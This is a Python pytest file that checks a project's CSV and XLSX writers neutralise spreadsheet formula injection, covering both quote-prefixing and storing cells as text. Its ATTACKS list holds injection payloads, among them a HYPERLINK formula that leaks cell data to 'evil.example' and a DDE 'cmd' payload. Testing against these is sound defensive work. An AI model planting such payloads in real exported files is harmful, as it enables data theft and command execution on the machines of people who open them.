"""core.cells: no cell of a CSV or XLSX the system writes is a live formula."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from sangathan.core.cells import csv_writer, safe_cell, xlsx_append

ATTACKS = ['=HYPERLINK("http://evil.example?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_like_cells_are_made_text_in_csv(value):
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["x", value])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["x", "'" + value]


@pytest.mark.parametrize("value", ["+919826012345", "-5", "+91 98260 12345", "12.5", "राम", "a=b", "", 7, None])
def test_plain_values_pass_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_strings_are_text_cells_never_formulas(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    xlsx_append(sheet, [*ATTACKS, 42])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())[0]
    # XML reads a bare carriage return back as a line feed; the text is otherwise exact.
    assert [cell.value for cell in cells] == [*(a.replace("\r", "\n") for a in ATTACKS), 42]
    assert [cell.data_type for cell in cells] == ["s"] * len(ATTACKS) + ["n"]
    with __import__("zipfile").ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
